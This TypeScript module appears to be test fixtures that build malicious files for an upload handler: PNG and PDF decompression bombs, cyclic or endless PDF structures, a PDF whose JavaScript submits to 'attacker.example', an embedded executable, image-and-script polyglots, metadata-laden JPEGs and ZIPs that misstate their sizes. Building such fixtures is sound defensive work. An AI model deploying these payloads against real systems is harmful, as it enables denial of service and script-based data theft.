import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { pdf, photograph } from './receipts';

// Files made to hurt whoever opens them. Each is small; what it becomes is not.

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const chunk = Buffer.alloc(body.length + 8);
  chunk.writeUInt32BE(data.length, 0);
  body.copy(chunk, 4);
  chunk.writeUInt32BE(crc32(body), body.length + 4);
  return chunk;
}

const PNG_HEAD = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG of one colour, whole and valid: 100 megapixels in a few hundred kilobytes. */
export function flatPng(width: number, height: number, interlaced = false): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, interlaced ? 1 : 0], 8);
  const lines = interlaced ? adam7Bytes(width, height) : (width + 1) * height;
  return Buffer.concat([
    PNG_HEAD,
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(lines), { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

const ADAM7 = [
  [0, 0, 8, 8],
  [4, 0, 8, 8],
  [0, 4, 4, 8],
  [2, 0, 4, 4],
  [0, 2, 2, 4],
  [1, 0, 2, 2],
  [0, 1, 1, 2],
] as const;
const adam7Bytes = (width: number, height: number) =>
  ADAM7.reduce((sum, [x, y, dx, dy]) => {
    const columns = Math.ceil((width - x) / dx);
    const rows = Math.ceil((height - y) / dy);
    return sum + (columns > 0 ? (columns + 1) * rows : 0);
  }, 0);

/** A small PNG with texts that unpack to `megabytes` each. */
export async function pngWithTextBombs(count: number, megabytes: number): Promise<Buffer> {
  const png = await photograph(64, 64, 'png');
  const text = Buffer.concat([
    Buffer.from('Comment\0\0', 'latin1'),
    deflateSync(Buffer.alloc(megabytes * 1024 * 1024, 0x41), { level: 9 }),
  ]);
  const header = png.subarray(0, 33);
  return Buffer.concat([header, ...Array.from({ length: count }, () => pngChunk('zTXt', text)), png.subarray(33)]);
}

/** A PDF that has one stream, packed once more for each layer. */
function pdfWithStream(plain: Buffer, layers: number): Buffer {
  let packed = plain;
  for (let layer = 0; layer < layers; layer += 1) packed = deflateSync(packed, { level: 9 });
  const filters = Array.from({ length: layers }, () => '/FlateDecode').join(' ');
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n', 'latin1')];
  const offsets: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  const add = (object: Buffer) => {
    offsets.push(length());
    parts.push(Buffer.from(`${offsets.length} 0 obj\n`, 'latin1'), object, Buffer.from('\nendobj\n', 'latin1'));
  };
  add(Buffer.from('<< /Type /Catalog /Pages 2 0 R >>', 'latin1'));
  add(Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 'latin1'));
  add(Buffer.from('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>', 'latin1'));
  add(
    Buffer.concat([
      Buffer.from(`<< /Length ${packed.length} /Filter [${filters}] >>\nstream\n`, 'latin1'),
      packed,
      Buffer.from('\nendstream', 'latin1'),
    ]),
  );
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const xref = length();
  parts.push(
    Buffer.from(
      `xref\n0 5\n0000000000 65535 f \n${table}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}

/** A page whose drawing orders unpack to `megabytes`, from a file of some kilobytes. */
export const pdfBomb = (megabytes: number): Buffer => pdfWithStream(Buffer.alloc(megabytes * 1024 * 1024, 0x20), 3);

/** A page that is drawn for ever: one order after another, each of them honest. */
export const slowPdf = (orders: number): Buffer =>
  pdfWithStream(
    Buffer.from('0 0 1 rg 0 0 595 842 re f 0 0 m 595 842 300 -900 10 800 c S\n'.repeat(orders), 'latin1'),
    1,
  );

/** A PDF with any objects, the first of them its catalogue. */
export function pdfOf(objects: string[]): Buffer {
  let text = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  return Buffer.from(
    `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
    'latin1',
  );
}

/** Pages that hold themselves, and a form that draws itself. */
export const pdfInCircles = (): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /XObject << /F 4 0 R >> >> /Contents 5 0 R >>',
    '<< /Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /F 4 0 R >> >> /Length 4 >>\nstream\n/F Do\nendstream',
    '<< /Length 5 >>\nstream\n/F Do\nendstream',
  ]);

/** A table of objects that points at itself as the one before. */
export const pdfWithEndlessTable = (): Buffer => {
  const whole = pdf(1).toString('latin1');
  const at = whole.indexOf('xref\n');
  return Buffer.from(whole.replace('trailer\n<<', `trailer\n<< /Prev ${at}`), 'latin1');
};

const PAGE = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>'];

/** Runs a script when opened, and on every page. */
export const pdfWithScript = (): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /JavaScript /JS (this.submitForm\\("http://attacker.example"\\)) >> >> >>',
    ...PAGE,
  ]);

/** Carries another file inside. */
export const pdfWithFileInside = (): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(secret.exe) 4 0 R] >> >> >>',
    ...PAGE,
    '<< /Type /Filespec /F (secret.exe) /EF << /F 5 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 24 >>\nstream\nMZ this is the secret fi\nendstream',
  ]);

/** Opens with a password only. */
export const pdfWithPassword = (): Buffer => {
  const text = pdf(1).toString('latin1');
  const entry = `/ID [<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>] /Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${'28'.repeat(32)}> /U <${'5a'.repeat(32)}> >>`;
  return Buffer.from(text.replace('/Root 1 0 R >>', `/Root 1 0 R ${entry} >>`), 'latin1');
};

/** A JPEG with everything that may tell of whoever took it: place, thumbnail, XMP, comment, colour profile, in CMYK. */
export async function tellingCmyk(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 320, height: 240, channels: 3, background: '#a03020' } })
    .toColourspace('cmyk')
    .withIccProfile('cmyk')
    .withExif({
      IFD0: { Make: 'SecretPhone', ImageDescription: 'Village name' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '11/1 33/1 0/1' },
    })
    .jpeg()
    .toBuffer();
  const thumbnail = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#00ff00' } })
    .jpeg()
    .toBuffer();
  return withSegments(jpeg, [
    [0xe1, Buffer.from('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>SecretPerson</x:xmpmeta>', 'latin1')],
    [0xed, Buffer.from('Photoshop 3.0\x008BIM SecretCaption', 'latin1')],
    [0xec, Buffer.concat([Buffer.from('Ducky SecretThumb', 'latin1'), thumbnail])],
    [0xfe, Buffer.from('SecretComment', 'latin1')],
  ]);
}

function withSegments(jpeg: Buffer, segments: readonly [number, Buffer][]): Buffer {
  const made = segments.map(([marker, data]) => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([head, data]);
  });
  return Buffer.concat([jpeg.subarray(0, 2), ...made, jpeg.subarray(2)]);
}

/** A photograph that a browser would also read as a page, by its comment; a page after a picture; an archive after one. */
export async function photographAndPage(): Promise<Buffer> {
  return withSegments(await photograph(), [[0xfe, Buffer.from('<html><script>alert(1)</script>', 'latin1')]]);
}
export const photographAndPageAtItsEnd = async (): Promise<Buffer> =>
  Buffer.concat([await photograph(), Buffer.from('\n<script src="https://attacker.example"></script>', 'latin1')]);
export const photographAndPdfAtItsEnd = async (): Promise<Buffer> => Buffer.concat([await photograph(), pdf(1)]);
export const pdfAndPhotograph = async (): Promise<Buffer> => Buffer.concat([pdf(1), await photograph()]);
export const photographAndArchive = async (): Promise<Buffer> =>
  Buffer.concat([await photograph(), zipOf([['payload.class', Buffer.from('cafebabe', 'hex')]])]);

/** An archive of these entries; `lies` says another unpacked size than the true one. */
export function zipOf(entries: readonly [name: string, content: Buffer][], lies?: number): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const [name, content] of entries) {
    const packed = deflateRawSync(content, { level: 9 });
    // Version, flags, method, time, day, sum, packed and unpacked size, lengths of name and extra: both records have these.
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(content), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(lies ?? content.length, 18);
    common.writeUInt16LE(Buffer.byteLength(name), 22);
    const local = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), common, Buffer.from(name), packed]);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    directory.push(
      Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), common, place, Buffer.from(name)]),
    );
    parts.push(local);
    at += local.length;
  }
  const listed = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 0, 'latin1');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(listed.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...parts, listed, end]);
}
